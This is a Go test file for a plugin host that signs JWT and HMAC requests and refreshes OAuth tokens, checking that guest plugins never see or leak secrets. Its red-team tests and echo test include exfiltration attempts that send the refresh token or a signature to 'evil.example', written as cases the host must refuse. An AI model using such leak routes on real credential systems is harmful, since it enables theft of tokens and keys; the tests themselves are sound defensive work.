package driver

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"errors"
	"io"
	"net/http"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"

	"github.com/patchbay-dev/patchbay/abi"
	"github.com/patchbay-dev/patchbay/host/auth"
	"github.com/patchbay-dev/patchbay/host/executor"
)

func signer(name string) abi.Part { return abi.Part{Which: abi.PartIsSigner, Signer: name} }

func configRef(name string) abi.Part {
	return abi.Part{Which: abi.PartIsSecret, Secret: &abi.SecretRef{Which: abi.SecretRefIsConfig, Config: name}}
}

func formBody(pairs ...abi.NamedValue) []abi.BodyPart {
	return []abi.BodyPart{{Which: abi.BodyPartIsForm, Form: &abi.Form{Values: pairs}}}
}

// cloudManifest is that of a provider with a service account and OAuth tokens.
func cloudManifest() *abi.Manifest {
	m := manifest()
	m.Provides.Providers[0].Deliver = []string{"pass", "events", "whole", "exchange"}
	m.Provides.Providers[0].Refresh = true
	m.ConfigSecrets = []string{"client_secret"}
	for name, f := range map[string]abi.CredentialField{
		"service_account": {}, "access_token": {}, "refresh_token": {}, "hmac_key": {}, "expires_at": {Kind: abi.FieldPublic},
		"email": {Kind: abi.FieldPublic},
	} {
		m.Credential.Fields[name] = f
	}
	m.Signers = []abi.Signer{
		{Name: "assertion", Kind: "jwt", Params: map[string]string{
			"alg": "RS256", "key": "service_account#/private_key", "issuer": "service_account#/client_email", "key_id": "service_account#/private_key_id",
			"audience": "https://oauth2.googleapis.com/token", "scopes": "https://www.googleapis.com/auth/cloud-platform", "lifetime": "1h",
		}},
		{Name: "body", Kind: "hmac", Params: map[string]string{
			"key": "hmac_key", "cover": "method path query header:Content-Type timestamp body", "timestamp_header": "X-Time", "encoding": "hex",
		}},
	}
	post := []string{"POST"}
	m.Slots = append(m.Slots,
		abi.Slot{Secret: "signer:assertion", Destination: "api", Methods: post, Position: "form:assertion"},
		abi.Slot{Secret: "signer:body", Destination: "api", Methods: post, Position: "header:X-Signature", Prefix: "v1="},
		abi.Slot{Secret: "access_token", Destination: "api", Methods: post, Position: "header:Authorization", Prefix: "Bearer "},
		abi.Slot{Secret: "refresh_token", Destination: "api", Methods: post, Position: "form:refresh_token"},
		abi.Slot{Secret: "refresh_token", Destination: "api", Methods: post, Position: "json:/grant/refresh_token"},
		abi.Slot{Secret: "config:client_secret", Destination: "api", Methods: post, Position: "header:Authorization", Prefix: "Basic ", Encoding: "base64"},
	)
	return m
}

const (
	oldRefresh   = "refresh-token-one-111"
	newRefresh   = "refresh-token-two-222"
	newAccess    = "access-token-two-2222"
	clientSecret = "client-secret-3333"
)

func withConfig(o *Options) {
	o.ConfigSecret = func(name string) string { return map[string]string{"client_secret": clientSecret}[name] }
}

func serviceAccount(t testing.TB) (string, *rsa.PrivateKey) {
	t.Helper()
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	raw, err := json.Marshal(map[string]string{
		"type": "service_account", "client_email": "robot@example.iam.gserviceaccount.com", "private_key_id": "kid-1",
		"private_key": string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der})),
	})
	if err != nil {
		t.Fatal(err)
	}
	return string(raw), key
}

func mintSend(extract ...abi.Extract) []abi.Action {
	return send(abi.Send{
		Deliver: abi.DeliverExchange, Step: "minted", Exchange: &abi.Exchange{Derived: true, Extract: extract},
		Request: &abi.Request{Method: "POST", URL: &abi.Url{Base: "base_url", Segments: segments("token")}, Body: formBody(
			abi.NamedValue{Name: "grant_type", Parts: lit("urn:ietf:params:oauth:grant-type:jwt-bearer")},
			abi.NamedValue{Name: "assertion", Parts: []abi.Part{signer("assertion")}},
		)},
	})
}

var tokenRules = []abi.Extract{
	{Pointer: "/access_token", Field: "access_token", Kind: abi.ExtractKindText},
	{Pointer: "/expires_in", Field: "expires_at", Kind: abi.ExtractKindExpiresIn},
}

func bearer(field string) *abi.Request {
	r := chat()
	r.Headers[0].Parts = append(lit("Bearer "), ref(field))
	return r
}

// TestAssertionToTokenToStream: a service account's assertion has Google's
// shape, the token stays with the host, the stream passes through, and the next
// attempt uses the token again until it ends or is refused.
func TestAssertionToTokenToStream(t *testing.T) {
	account, key := serviceAccount(t)
	now := time.Now().Truncate(time.Second)
	var mints, asks atomic.Int32
	refuse := atomic.Bool{}
	up := serve(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/token" {
			mints.Add(1)
			if err := r.ParseForm(); err != nil || r.Form.Get("grant_type") != "urn:ietf:params:oauth:grant-type:jwt-bearer" {
				t.Errorf("form %v, %v", r.Form, err)
			}
			token, err := jwt.Parse(r.Form.Get("assertion"), func(*jwt.Token) (any, error) { return &key.PublicKey, nil },
				jwt.WithValidMethods([]string{"RS256"}), jwt.WithAudience("https://oauth2.googleapis.com/token"),
				jwt.WithIssuer("robot@example.iam.gserviceaccount.com"), jwt.WithTimeFunc(func() time.Time { return now }))
			if err != nil {
				t.Errorf("assertion: %v", err)
				return
			}
			claims, _ := token.Claims.(jwt.MapClaims)
			if claims["scope"] != "https://www.googleapis.com/auth/cloud-platform" || claims["exp"] != float64(now.Add(time.Hour).Unix()) ||
				claims["iat"] != float64(now.Unix()) || claims["jti"] == "" || token.Header["kid"] != "kid-1" {
				t.Errorf("claims %v, header %v", claims, token.Header)
			}
			io.WriteString(w, `{"access_token":"`+newAccess+`","expires_in":3600,"token_type":"Bearer"}`)
			return
		}
		asks.Add(1)
		if r.Header.Get("Authorization") != "Bearer "+newAccess {
			t.Errorf("authorization %q", r.Header.Get("Authorization"))
		}
		if refuse.Load() {
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		w.Header().Set("Content-Type", "text/event-stream")
		io.WriteString(w, "data: x\n\ndata: [DONE]\n\n")
	})
	g := &fakeGuest{answer: func(_ int, c call) []abi.Action {
		info := c.execute
		if info != nil && !contains(info.Attempt.Credential.Secrets, "access_token") {
			return mintSend(tokenRules...)
		}
		return send(abi.Send{Deliver: abi.DeliverPass, Request: bearer("access_token")})
	}}
	e := newExecutor(t, g, cloudManifest(), func(o *Options) { o.Now = func() time.Time { return now } })
	a := credential(up.URL)
	a.Metadata["service_account"] = account
	run := func() error {
		s, err := e.OpenStream(t.Context(), a.Clone(), request(), executor.Options{})
		if err != nil {
			return err
		}
		got, err := readStream(t, s)
		if err != nil || got != "data: x\n\ndata: [DONE]\n\n" {
			t.Errorf("stream %q, %v", got, err)
		}
		return nil
	}
	for i, want := range []int32{1, 1} {
		if err := run(); err != nil || mints.Load() != want {
			t.Fatalf("run %d: %v, %d token requests, want %d", i, err, mints.Load(), want)
		}
	}
	in := g.calls[1].resume
	if in == nil || in.Exchange == nil || in.Exchange.Status != 200 || !contains(in.Attempt.Credential.Secrets, "access_token") {
		t.Fatalf("resume %+v", in)
	}
	for _, c := range g.calls {
		if text, err := json.Marshal([]any{c.execute, c.resume}); err != nil || strings.Contains(string(text), newAccess) {
			t.Errorf("the guest saw the token: %s, %v", text, err)
		}
	}
	now = now.Add(59*time.Minute + time.Second)
	if err := run(); err != nil || mints.Load() != 2 {
		t.Errorf("shortly before its end: %v, %d token requests", err, mints.Load())
	}
	refuse.Store(true)
	if err := run(); err == nil {
		t.Error("a refused token is no error")
	}
	refuse.Store(false)
	if err := run(); err != nil || mints.Load() != 3 {
		t.Errorf("after a refusal: %v, %d token requests", err, mints.Load())
	}
	if a.Metadata["access_token"] != nil {
		t.Error("the caller's credential was changed")
	}
}

func contains(list []string, s string) bool {
	for _, e := range list {
		if e == s {
			return true
		}
	}
	return false
}

// TestES256: an elliptic key signs with its own algorithm, and no other key does.
func TestES256(t *testing.T) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.MarshalECPrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	raw := string(pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: der}))
	w := &owner{manifest: manifest(), auth: &auth.Auth{Metadata: map[string]any{"k": raw, "i": "me"}}}
	s := &abi.JWTSigner{Alg: "ES256", Key: abi.ParseSource("k"), Issuer: abi.ParseSource("i"), Audience: "aud", Lifetime: time.Hour}
	text, err := w.assertion(s, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := jwt.Parse(text, func(*jwt.Token) (any, error) { return &key.PublicKey, nil }, jwt.WithValidMethods([]string{"ES256"})); err != nil {
		t.Error(err)
	}
	s.Alg = "RS256"
	if _, err := w.assertion(s, time.Now()); err == nil || strings.Contains(err.Error(), raw[40:80]) {
		t.Errorf("a key of another kind: %v", err)
	}
}

// TestHMACOverTheFinalBytes computes the hash again from what arrived.
func TestHMACOverTheFinalBytes(t *testing.T) {
	const key = "hmac-key-0123456789"
	var got, want, stamp string
	up := serve(t, func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		stamp = r.Header.Get("X-Time")
		mac := hmac.New(sha256.New, []byte(key))
		io.WriteString(mac, strings.Join([]string{r.Method, r.URL.EscapedPath(), r.URL.RawQuery, r.Header.Get("Content-Type"), stamp, string(body)}, "\n"))
		got, want = r.Header.Get("X-Signature"), "v1="+hex.EncodeToString(mac.Sum(nil))
		io.WriteString(w, "{}")
	})
	r := chat()
	r.URL.Segments = segments("a b", "ü")
	r.URL.Query = []abi.NamedValue{{Name: "q", Parts: lit("1 2")}}
	r.Headers = []abi.NamedValue{{Name: "x-signature", Parts: append(lit("v1="), signer("body"))}}
	r.Body[0].ClientBody.Edits = []abi.Edit{{Which: abi.EditIsSet, Path: "extra", Set: []byte("1")}}
	now := time.Unix(1_900_000_000, 0)
	e := newExecutor(t, always(send(abi.Send{Deliver: abi.DeliverPass, Request: r})...), cloudManifest(), func(o *Options) { o.Now = func() time.Time { return now } })
	a := credential(up.URL)
	a.Metadata["hmac_key"] = key
	if _, err := e.Execute(t.Context(), a, request(), executor.Options{}); err != nil {
		t.Fatal(err)
	}
	if got != want || stamp != "1900000000" {
		t.Errorf("signature %q, want %q; time %q", got, want, stamp)
	}
}

// refreshSend is a refresh of an OAuth token with the client's secret.
func refreshSend(x *abi.Exchange, onError abi.OnError) []abi.Action {
	return send(abi.Send{
		Deliver: abi.DeliverExchange, Step: "done", Exchange: x, OnError: onError,
		Request: &abi.Request{
			Method: "POST", URL: &abi.Url{Base: "base_url", Segments: segments("oauth", "token")},
			Headers: []abi.NamedValue{{Name: "Authorization", Parts: append(lit("Basic "), abi.Part{Which: abi.PartIsEncode, Encode: &abi.Encode{
				Encoding: abi.EncodingBase64, Parts: append(lit("client:"), configRef("client_secret")),
			}})}},
			Body: formBody(
				abi.NamedValue{Name: "grant_type", Parts: lit("refresh_token")},
				abi.NamedValue{Name: "refresh_token", Parts: []abi.Part{ref("refresh_token")}},
			),
		},
	})
}

func rotating(more ...abi.Extract) *abi.Exchange {
	return &abi.Exchange{Consumes: []string{"refresh_token"}, Extract: append(append([]abi.Extract{
		{Pointer: "/refresh_token", Field: "refresh_token", Kind: abi.ExtractKindText},
	}, tokenRules...), more...)}
}

func patchOf(c *abi.Credential, set ...abi.Pair) []abi.Action {
	return []abi.Action{{Which: abi.ActionIsPatch, Patch: &abi.Patch{Revision: c.Revision, Set: set}}}
}

func oauthCredential(base string) *auth.Auth {
	a := credential(base)
	a.Metadata["refresh_token"] = oldRefresh
	return a
}

const idToken = "e30.eyJlbWFpbCI6Im1lQGV4YW1wbGUuY29tIiwiaHR0cHM6Ly94L2F1dGgiOnsiaWQiOiJhY2MtMSJ9fQ.c2ln"

// TestRefreshRotates: what arrives is a form of RFC 6749 with Basic
// authentication; the new tokens are saved before the guest is asked again, and
// the guest sees none of them.
func TestRefreshRotates(t *testing.T) {
	var form url.Values
	var basic string
	up := serve(t, func(w http.ResponseWriter, r *http.Request) {
		if err := r.ParseForm(); err != nil {
			t.Error(err)
		}
		form, basic = r.PostForm, r.Header.Get("Authorization")
		io.WriteString(w, `{"access_token":"`+newAccess+`","refresh_token":"`+newRefresh+`","expires_in":"3600","id_token":"`+idToken+`"}`)
	})
	now := time.Date(2030, 1, 2, 3, 4, 5, 0, time.UTC)
	var saved *auth.Auth
	g := &fakeGuest{}
	g.answer = func(_ int, c call) []abi.Action {
		if c.refresh != nil {
			return refreshSend(rotating(
				abi.Extract{Pointer: "/id_token", Claim: "email", Field: "email", Kind: abi.ExtractKindJWTClaim},
				abi.Extract{Pointer: "/id_token", Claim: "/https:~1~1x~1auth/id", Field: "project", Kind: abi.ExtractKindJWTClaim},
			), 0)
		}
		if saved == nil {
			t.Error("the guest was asked again before the tokens were saved")
		}
		if text, _ := json.Marshal(c.resume); strings.Contains(string(text), newAccess) || strings.Contains(string(text), newRefresh) {
			t.Errorf("the guest saw a token: %s", text)
		}
		return patchOf(c.resume.Attempt.Credential, abi.Pair{Name: "project", Value: "named"})
	}
	e := newExecutor(t, g, cloudManifest(), withConfig, func(o *Options) { o.Now = func() time.Time { return now } })
	ctx := auth.WithRefreshSaver(t.Context(), func(a *auth.Auth) error { saved = a; return nil })
	fresh, err := e.Refresh(ctx, oauthCredential(up.URL))
	if err != nil {
		t.Fatal(err)
	}
	if form.Get("refresh_token") != oldRefresh || form.Get("grant_type") != "refresh_token" ||
		basic != "Basic "+base64.StdEncoding.EncodeToString([]byte("client:"+clientSecret)) {
		t.Errorf("form %v, authorization %q", form, basic)
	}
	for _, a := range []*auth.Auth{saved, fresh} {
		if a.RefreshToken() != newRefresh || a.AccessToken() != newAccess {
			t.Errorf("tokens %q, %q", a.RefreshToken(), a.AccessToken())
		}
		if at, ok := a.ExpirationTime(); !ok || !at.Equal(now.Add(time.Hour)) {
			t.Errorf("expires %v, %v", at, ok)
		}
	}
	if fresh.Attributes["email"] != "me@example.com" || fresh.Attributes["project"] != "named" || fresh.Metadata["api_key"] != testKey {
		t.Errorf("fields %v", fresh.Attributes)
	}
}

// TestRefreshFails: what the token server says decides what the manager does.
func TestRefreshFails(t *testing.T) {
	giveUp := func(int, call) []abi.Action { return []abi.Action{fail(abi.Fail{Code: "transient", Message: "no"})} }
	for name, c := range map[string]struct {
		status int
		body   string
		next   func(n int, c call) []abi.Action
		code   string // of the error; "kept" when the tokens are returned all the same
		want   int    // the error's status
	}{
		"the grant is gone":         {400, `{"error":"invalid_grant","error_description":"was ` + oldRefresh + `"}`, giveUp, auth.CodeInvalidGrant, 400},
		"the server failed":         {500, `oops`, giveUp, "", 0},
		"slow down":                 {429, `{"error":"slow_down"}`, giveUp, "transient", 503},
		"a failure after the fact":  {200, `{"access_token":"` + newAccess + `","refresh_token":"` + newRefresh + `"}`, giveUp, "kept", 0},
		"an answer without a value": {200, `{}`, giveUp, "", 0},
		"a second exchange": {200, `{"access_token":"` + newAccess + `"}`, func(int, call) []abi.Action {
			return refreshSend(rotating(), 0)
		}, "kept", 0},
	} {
		t.Run(name, func(t *testing.T) {
			var hits atomic.Int32
			up := serve(t, func(w http.ResponseWriter, _ *http.Request) {
				hits.Add(1)
				w.WriteHeader(c.status)
				io.WriteString(w, c.body)
			})
			g := &fakeGuest{}
			g.answer = func(n int, in call) []abi.Action {
				if in.refresh != nil {
					return refreshSend(rotating(), abi.OnErrorResume)
				}
				if text, _ := json.Marshal(in.resume); strings.Contains(string(text), oldRefresh) {
					t.Errorf("the guest saw the token: %s", text)
				}
				return c.next(n, in)
			}
			fresh, err := newExecutor(t, g, cloudManifest(), withConfig).Refresh(t.Context(), oauthCredential(up.URL))
			if hits.Load() != 1 {
				t.Errorf("%d token requests", hits.Load())
			}
			if c.code == "kept" {
				if err != nil || fresh.AccessToken() != newAccess {
					t.Errorf("%v, %v", fresh, err)
				}
				return
			}
			if u := upstreamError(t, err); u.Status != c.want || u.Code != c.code {
				t.Errorf("status %d, code %q: %v", u.Status, u.Code, err)
			}
		})
	}
}

// TestTokenRequestIsNotRepeated: one that may have been received is not sent
// again, by nobody; one that never left may be.
func TestTokenRequestIsNotRepeated(t *testing.T) {
	var hits atomic.Int32
	up := serve(t, func(w http.ResponseWriter, _ *http.Request) {
		hits.Add(1)
		panic(http.ErrAbortHandler)
	})
	g := &fakeGuest{answer: func(int, call) []abi.Action { return refreshSend(rotating(), abi.OnErrorResume) }}
	_, err := newExecutor(t, g, cloudManifest(), withConfig).Refresh(t.Context(), oauthCredential(up.URL))
	if u := upstreamError(t, err); u.Status != 0 || hits.Load() != 1 {
		t.Errorf("%d token requests, %v", hits.Load(), err)
	}
	closed := serve(t, nil)
	closed.Close()
	tries := 0
	g = &fakeGuest{answer: func(n int, _ call) []abi.Action {
		if tries = n; n == 2 {
			return []abi.Action{fail(abi.Fail{Code: "transient"})}
		}
		return refreshSend(rotating(), abi.OnErrorResume)
	}}
	_, err = newExecutor(t, g, cloudManifest(), withConfig).Refresh(t.Context(), oauthCredential(closed.URL))
	if u := upstreamError(t, err); tries != 2 || u.Status != http.StatusServiceUnavailable {
		t.Errorf("after %d tries: %v", tries, err)
	}
}

// TestTokensAreNotUsedUnsaved: without the store nothing more is sent.
func TestTokensAreNotUsedUnsaved(t *testing.T) {
	up := serve(t, func(w http.ResponseWriter, _ *http.Request) {
		io.WriteString(w, `{"access_token":"`+newAccess+`","refresh_token":"`+newRefresh+`"}`)
	})
	g := &fakeGuest{answer: func(int, call) []abi.Action { return refreshSend(rotating(), 0) }}
	ctx := auth.WithRefreshSaver(t.Context(), func(*auth.Auth) error { return errors.New("the disk is full") })
	fresh, err := newExecutor(t, g, cloudManifest(), withConfig).Refresh(ctx, oauthCredential(up.URL))
	if err != nil || fresh.RefreshToken() != newRefresh || len(g.calls) != 1 {
		t.Errorf("%v, %v, %d calls", fresh, err, len(g.calls))
	}
}

// TestRedTeamExchanges: ways to see or send a secret by a token request, each
// with the rule that refuses it (A-08, A-14, U-10, U-12).
func TestRedTeamExchanges(t *testing.T) {
	var hits atomic.Int32
	up := serve(t, func(http.ResponseWriter, *http.Request) { hits.Add(1) })
	with := func(change func(s *abi.Send)) []abi.Action {
		list := refreshSend(rotating(), 0)
		change(list[0].Send)
		return list
	}
	take := func(x abi.Extract) []abi.Action {
		return refreshSend(&abi.Exchange{Consumes: []string{"refresh_token"}, Extract: []abi.Extract{x}}, 0)
	}
	text := abi.ExtractKindText
	for name, c := range map[string]struct {
		actions []abi.Action
		want    string
	}{
		"the answer to the guest":        {with(func(s *abi.Send) { s.Deliver, s.Exchange = abi.DeliverWhole, nil }), "token request"},
		"the answer to classify":         {with(func(s *abi.Send) { s.OnError = abi.OnErrorClassify }), "comes back with resume"},
		"a token into a public field":    {take(abi.Extract{Pointer: "/access_token", Field: "email", Kind: text}), "has the name of a secret"},
		"a token into a destination":     {take(abi.Extract{Pointer: "/x", Field: "base_url", Kind: text}), "destination"},
		"a field of nobody":              {take(abi.Extract{Pointer: "/x", Field: "proxy", Kind: text}), "no field"},
		"a field of the operator":        {take(abi.Extract{Pointer: "/x", Field: auth.AttrAllowPrivate, Kind: text}), "no field"},
		"a foreign host":                 {with(func(s *abi.Send) { s.Request.URL = &abi.Url{Scheme: "https", Host: "evil.example"} }), "no destination"},
		"another destination":            {with(func(s *abi.Send) { s.Request.URL = &abi.Url{Scheme: "https", Host: "eu.cloud.example"} }), "no slot"},
		"another method":                 {with(func(s *abi.Send) { s.Request.Method = "GET" }), "no slot"},
		"a secret in the wrong encoding": {with(func(s *abi.Send) { s.Request.Headers[0].Parts[1].Encode.Encoding = abi.EncodingHex }), "the encoding hex"},
		"a secret in two encodings": {with(func(s *abi.Send) {
			p := &s.Request.Headers[0].Parts[1]
			*p = abi.Part{Which: abi.PartIsEncode, Encode: &abi.Encode{Encoding: abi.EncodingBase64, Parts: []abi.Part{*p}}}
		}), "two encodings"},
		"a secret under another key":  {with(func(s *abi.Send) { s.Request.Body[0].Form.Values[1].Name = "state" }), "no slot"},
		"the key of a signer":         {with(func(s *abi.Send) { s.Request.Body[0].Form.Values[1].Parts[0] = ref("hmac_key") }), "no slot"},
		"a signature elsewhere":       {with(func(s *abi.Send) { s.Request.Body[0].Form.Values[1].Parts[0] = signer("body") }), "no slot"},
		"an assertion to the guest":   {mintWhole(), "token request"},
		"what is not carried":         {with(func(s *abi.Send) { s.Exchange.Consumes = []string{"access_token"} }), "does not carry"},
		"a derived one that consumes": {with(func(s *abi.Send) { s.Exchange.Derived = true }), "consumes nothing"},
		"a prompt beside the form": {with(func(s *abi.Send) {
			s.Request.Body = append(s.Request.Body, abi.BodyPart{Which: abi.BodyPartIsLiteral, Literal: []byte("x")})
		}), "whole body"},
	} {
		t.Run(name, func(t *testing.T) {
			a := oauthCredential(up.URL)
			a.Metadata["hmac_key"], a.Metadata["access_token"], a.Attributes["region"] = "hmac-key-0123456789", "access-0123456", "eu"
			_, err := newExecutor(t, always(c.actions...), cloudManifest(), withConfig).Refresh(t.Context(), a)
			if !errors.As(err, new(*PluginError)) || !strings.Contains(err.Error(), c.want) || strings.Contains(err.Error(), oldRefresh) {
				t.Errorf("%v, want %q", err, c.want)
			}
			if hits.Load() != 0 {
				t.Error("a request reached the upstream")
			}
		})
	}
	t.Run("a lasting exchange within an attempt", func(t *testing.T) {
		e := newExecutor(t, always(refreshSend(rotating(), 0)...), cloudManifest(), withConfig)
		if _, err := e.Execute(context.Background(), oauthCredential(up.URL), request(), executor.Options{}); err == nil || !strings.Contains(err.Error(), "belongs to refresh") {
			t.Error(err)
		}
	})
}

func mintWhole() []abi.Action {
	list := mintSend()
	list[0].Send.Deliver, list[0].Send.Exchange = abi.DeliverWhole, nil
	return list
}

// TestJSONSlots: a secret stands in a JSON text at its pointer, escaped.
func TestJSONSlots(t *testing.T) {
	const odd = "refresh\"\\\n token"
	var got map[string]any
	up := serve(t, func(w http.ResponseWriter, r *http.Request) {
		if err := json.NewDecoder(r.Body).Decode(&got); err != nil {
			t.Error(err)
		}
		io.WriteString(w, `{"access_token":"`+newAccess+`"}`)
	})
	g := &fakeGuest{answer: func(_ int, c call) []abi.Action {
		if c.resume != nil {
			return patchOf(c.resume.Attempt.Credential)
		}
		list := refreshSend(rotating(), 0)
		list[0].Send.Request.Body = []abi.BodyPart{{Which: abi.BodyPartIsJSON, JSON: &abi.JsonBody{
			Template: []byte(`{"grant":{},"n":12345678901234567890}`),
			Values:   []abi.NamedValue{{Name: "/grant/refresh_token", Parts: []abi.Part{ref("refresh_token")}}},
		}}}
		return list
	}}
	a := oauthCredential(up.URL)
	a.Metadata["refresh_token"] = odd
	if _, err := newExecutor(t, g, cloudManifest(), withConfig).Refresh(t.Context(), a); err != nil {
		t.Fatal(err)
	}
	if inner, _ := got["grant"].(map[string]any); inner["refresh_token"] != odd {
		t.Errorf("body %v", got)
	}
}

// TestReadableSecrets: only the fields that the capability names are given.
func TestReadableSecrets(t *testing.T) {
	m := manifest()
	m.Capabilities = append(m.Capabilities, abi.Capability{Name: abi.CapabilityReadSecrets, Reason: "r", Fields: []string{"other"}})
	g := always(reply("{}"))
	a := credential("http://127.0.0.1")
	a.Metadata["other"] = "other-secret-value"
	if _, err := newExecutor(t, g, m).Execute(t.Context(), a, request(), executor.Options{}); err != nil {
		t.Fatal(err)
	}
	fields := map[string]string{}
	for _, p := range g.calls[0].execute.Attempt.Credential.Fields {
		fields[p.Name] = p.Value
	}
	if fields["other"] != "other-secret-value" || fields["api_key"] != "" {
		t.Errorf("fields %v", fields)
	}
}

// TestU12EchoOfASignature: what a signer made, and a secret of the configuration,
// come back to nobody (U-12, A-14).
func TestU12EchoOfASignature(t *testing.T) {
	var sent string
	up := serve(t, func(w http.ResponseWriter, r *http.Request) {
		sent = strings.TrimPrefix(r.Header.Get("X-Signature"), "v1=")
		w.Header().Set("X-Echo", sent)
		w.Header().Set("Location", "https://evil.example/?s="+sent)
		w.WriteHeader(http.StatusBadRequest)
		io.WriteString(w, `{"error":{"message":"bad `+sent+` `+clientSecret+`"}}`)
	})
	r := chat()
	r.Headers = []abi.NamedValue{{Name: "X-Signature", Parts: append(lit("v1="), signer("body"))}}
	g := &fakeGuest{answer: func(_ int, c call) []abi.Action {
		if c.classify != nil {
			return []abi.Action{fail(abi.Fail{Code: "bad_request"})}
		}
		return send(abi.Send{Deliver: abi.DeliverPass, Request: r, OnError: abi.OnErrorClassify})
	}}
	a := credential(up.URL)
	a.Metadata["hmac_key"] = "hmac-key-0123456789"
	_, err := newExecutor(t, g, cloudManifest(), withConfig).Execute(t.Context(), a, request(), executor.Options{})
	seen, encoding := json.Marshal(g.calls[1].classify)
	told := upstreamError(t, err)
	for name, text := range map[string]string{"guest": string(seen), "guest's body": string(g.calls[1].classify.Response.Body), "client": told.Message + string(told.Body)} {
		if encoding != nil || sent == "" || strings.Contains(text, sent) || strings.Contains(text, clientSecret) {
			t.Errorf("the %s sees %s", name, text)
		}
	}
}

// TestReferencesAreNoText: what looks like a reference in a literal stays text,
// also within an encoding and a form.
func TestReferencesAreNoText(t *testing.T) {
	var form url.Values
	up := serve(t, func(w http.ResponseWriter, r *http.Request) {
		if err := r.ParseForm(); err != nil {
			t.Error(err)
		}
		form = r.PostForm
		io.WriteString(w, "{}")
	})
	r := chat()
	r.Headers = nil
	r.Body = formBody(
		abi.NamedValue{Name: "a", Parts: lit("{{secret:api_key}} config:client_secret signer:body")},
		abi.NamedValue{Name: "b", Parts: []abi.Part{{Which: abi.PartIsEncode, Encode: &abi.Encode{Encoding: abi.EncodingBase64, Parts: lit(`{"$secret":"api_key"}`)}}}},
	)
	e := newExecutor(t, always(send(abi.Send{Deliver: abi.DeliverPass, Request: r})...), cloudManifest(), withConfig)
	if _, err := e.Execute(t.Context(), credential(up.URL), request(), executor.Options{}); err != nil {
		t.Fatal(err)
	}
	if form.Get("a") != "{{secret:api_key}} config:client_secret signer:body" || form.Get("b") != base64.StdEncoding.EncodeToString([]byte(`{"$secret":"api_key"}`)) {
		t.Errorf("form %v", form)
	}
}
